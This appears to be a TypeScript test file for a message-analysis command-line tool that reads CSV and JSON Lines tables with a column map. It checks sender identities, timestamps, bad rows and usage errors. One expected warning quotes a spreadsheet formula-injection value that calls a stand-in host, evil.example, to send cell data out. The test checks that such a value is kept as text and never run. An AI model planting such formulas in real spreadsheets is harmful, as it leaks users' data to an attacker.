// Tables of messages from other tools (fixtures/table/, see its README.md), read with --map: CSV
// with a header row and JSON Lines.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseColumnMap } from '../src/settings.js';
import { tableTime } from '../src/readers/table/table.js';
import { copyFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixturePath, runCli, scratchDir } from './helpers.js';

const CSV = fixturePath('table', 'viber-converted.csv');
const JSONL = fixturePath('table', 'forum-scrape.jsonl');
const CSV_MAP = 'sender=From,text=Body,time=Date,phone=Phone,chat=Chat';

interface Listed {
  text: string;
  sentAt: string | null;
  timeBasis: string;
  sender: { key: string; name: string; phone: string | null };
  chat: { name: string };
  source: { line: number; messageId?: string };
}

async function listed(args: string[]): Promise<{ code: number; messages: Listed[]; stderr: string }> {
  const r = await runCli(['messages', ...args, '--format', 'jsonl']);
  return { code: r.code, stderr: r.stderr, messages: r.stdout.trim() === '' ? [] : r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Listed) };
}

test('without --map a table is not messages: refused with what to pass', async () => {
  const r = await runCli(['messages', CSV]);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /viber-converted\.csv: unrecognised format/);
  assert.match(r.stderr, /read with --map sender=COLUMN,text=COLUMN,time=COLUMN/);
});

test('CSV with --map: each row a message with its line; bad rows left out and named by line', async () => {
  const { code, messages, stderr } = await listed([CSV, '--map', CSV_MAP, '--tz', 'Europe/Moscow']);
  assert.equal(code, 0, stderr);
  assert.deepEqual(
    messages.map((m) => [m.source.line, m.sender.key.replace(/^name:[0-9a-f]{12}:/, 'name:…:'), m.sentAt, m.timeBasis, m.chat.name]),
    [
      [2, 'phone:+79281234567', '2022-01-20T15:16:05Z', 'instant', 'Viber: Служба'],
      [3, 'name:…:Амина', '2022-01-20T15:20:41Z', 'zone', 'Viber: Служба'],
      [5, 'phone:+79281234567', '2022-01-20T15:22:10Z', 'instant', 'Viber: Служба'],
    ],
  );
  assert.equal(messages[1]!.text, 'Кто вы?\r\nЧто вам нужно?', 'a quoted cell keeps its line break as written');
  // Each row that could not be read is named with its line and why; the formula is text, never run.
  const warned = [...stderr.matchAll(/viber-converted\.csv:(\d+): (.*?); the row is left out/g)].map((m) => [Number(m[1]), m[2]!.replace(/ in column.*/, '')]);
  assert.deepEqual(warned, [
    [6, 'unreadable time "вчера"'],
    [7, 'no sender'],
    [8, 'unreadable time "=HYPERLINK(\\"http://evil.example/?x=\\"&A1)"'],
  ]);
});

test('a number in a table is the same identity as on WhatsApp; JSON Lines with a sender id keep one sender under two names', async () => {
  const { messages } = await listed([CSV, '--map', CSV_MAP]);
  assert.deepEqual(messages[0]!.sender, { key: 'phone:+79281234567', name: 'Служба', raw: 'Служба', phone: '+79281234567' });
  const jsonl = await listed([JSONL, '--map', 'sender=author,senderId=author_id,text=body,time=posted,id=id']);
  assert.deepEqual(
    jsonl.messages.map((m) => [m.source.line, m.source.messageId, m.sender.name, m.sender.key.replace(/^name:[0-9a-f]{12}:/, ''), m.sentAt]),
    [
      [1, 'p-1', 'watcher_77', 'u-9001', '2023-05-02T10:15:00Z'],
      [2, 'p-2', 'Watcher', 'u-9001', '2023-05-02T10:15:00Z'],
      [4, 'p-3', 'amina_k', 'u-17', '2023-05-02T10:20:00Z'],
    ],
  );
  assert.deepEqual([...jsonl.stderr.matchAll(/forum-scrape\.jsonl:(\d+): not a JSON object/g)].map((m) => Number(m[1])), [3, 5]);
});

test('a table missing a mapped column is not read as one; mistakes in --map are usage errors', async () => {
  const r = await runCli(['messages', CSV, '--map', 'sender=From,text=Body,time=Sent']);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /unrecognised format/);
  for (const [spec, message] of [
    ['sender=From,text=Body', /--map: time is required/],
    ['sender=From,text=Body,time=Date,colour=Red', /--map: unknown field "colour"/],
    ['sender=From,text=Body,time=', /--map: field "time" names no column/],
    ['sender=From,sender=To,text=Body,time=Date', /--map: field "sender" is mapped twice/],
  ] as const) {
    const bad = await runCli(['messages', CSV, '--map', spec]);
    assert.equal(bad.code, 2, spec);
    assert.match(bad.stderr, message);
  }
  assert.deepEqual(parseColumnMap(' sender = From , text=Body,time=Date'), { sender: 'From', text: 'Body', time: 'Date' });
});

test('table times: instants with Z or an offset, Unix seconds and milliseconds, wall clocks; others refused', () => {
  assert.deepEqual(tableTime('2022-01-20T18:16:05+03:00', null, null), { utc: '2022-01-20T15:16:05Z', local: '2022-01-20T18:16:05', basis: 'instant', zone: '+03:00' });
  assert.deepEqual(tableTime('2022-01-20T15:16:05.250Z', null, null), { utc: '2022-01-20T15:16:05.250Z', local: null, basis: 'instant', zone: null });
  assert.equal(tableTime('1642692130', null, null)!.utc, '2022-01-20T15:22:10Z');
  assert.equal(tableTime('1642692130000', null, null)!.utc, '2022-01-20T15:22:10Z');
  assert.deepEqual(tableTime('2022-01-20 18:20', null, null), { utc: '2022-01-20T18:20:00Z', local: '2022-01-20T18:20:00', basis: 'assumed-utc', zone: null });
  for (const bad of ['2022-02-30T10:00:00Z', '20.01.2022 18:16', '2022-01-20T18:16:05+15:00', '164269213']) assert.equal(tableTime(bad, null, null), null, bad);
});

test('a folder says how its tables read in threatlens.json ("map"), checked as --map is', async () => {
  const dir = scratchDir('table-settings');
  copyFileSync(CSV, join(dir, 'viber-converted.csv'));
  writeFileSync(join(dir, 'threatlens.json'), JSON.stringify({ map: CSV_MAP, tz: 'Europe/Moscow' }));
  const { code, messages } = await listed([dir]);
  assert.equal(code, 0);
  assert.equal(messages.length, 3);
  writeFileSync(join(dir, 'threatlens.json'), JSON.stringify({ map: 'sender=From' }));
  const bad = await runCli(['messages', dir]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /threatlens\.json: "map": text, time are required/);
});
